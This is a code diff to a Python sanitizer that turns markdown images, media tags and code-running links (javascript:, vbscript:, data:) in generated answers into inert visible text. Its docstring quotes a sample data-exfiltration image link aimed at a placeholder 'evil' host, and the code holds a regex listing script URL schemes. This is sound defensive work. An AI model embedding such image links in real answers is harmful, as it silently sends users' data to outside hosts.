@@ -12,6 +12,7 @@ possible one nor other languages; docs/16-security.md says so.
 
 from __future__ import annotations
 
+import html
 import re
 from dataclasses import dataclass
 from typing import Sequence
@@ -151,10 +152,32 @@ def _fixpoint(rx: re.Pattern[str], repl, text: str) -> str:
 def defang_images(text: str) -> str:
     """Markdown images, raw HTML images and media (``<img src=…>``) and reference definitions as
     visible text: an answer never makes a viewer load anything (a viewer that loads
-    ``![x](http://evil/?q=secret)`` sends data out). Applies to every answer."""
+    ``![x](http://evil/?q=secret)`` sends data out). Links that run code when clicked
+    (``javascript:``, ``vbscript:``, ``data:``) are shown as text too. Applies to every answer,
+    the extractive composer's quotes of a document included."""
     text = _fixpoint(_IMAGE, lambda m: f"[image: {m.group(1) or 'untitled'}] ({_code(m.group(2))})", text)
     text = _MEDIA_TAG.sub(lambda m: _code(m.group(0)), text)
-    return _REF_DEF.sub(lambda m: f"{m.group(1)}[{m.group(2)}]\\: {_code(m.group(3))}", text)
+    text = _REF_DEF.sub(lambda m: f"{m.group(1)}[{m.group(2)}]\\: {_code(m.group(3))}", text)
+    return defang_script_links(text)
+
+
+_SCRIPT_SCHEME = re.compile(r"^(?:javascript|vbscript|data|livescript):", re.I)
+_ANY_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*)>")
+
+
+def runs_code(target: str) -> bool:
+    """Whether a link target runs code when followed, as a browser reads it: entities decoded
+    (CommonMark decodes them in a link's target), spaces and control characters dropped."""
+    plain = "".join(ch for ch in html.unescape(target) if ord(ch) > 0x20)
+    return bool(_SCRIPT_SCHEME.match(plain))
+
+
+def defang_script_links(text: str) -> str:
+    """Markdown links, autolinks and HTML anchors whose target runs code, as visible text."""
+    text = _fixpoint(_LINK, lambda m: f"{m.group(1)} ({_code(m.group(2))})" if runs_code(m.group(2)) else m.group(0), text)
+    text = _ANY_AUTOLINK.sub(lambda m: _code(m.group(1)) if runs_code(m.group(1)) else m.group(0), text)
+    return _ANCHOR_TAG.sub(lambda m: _code(m.group(0)) if "script:" in "".join(m.group(0).split()).lower()
+                           or "data:" in m.group(0).lower() else m.group(0), text)
 
 
 def defang_links(text: str) -> str:
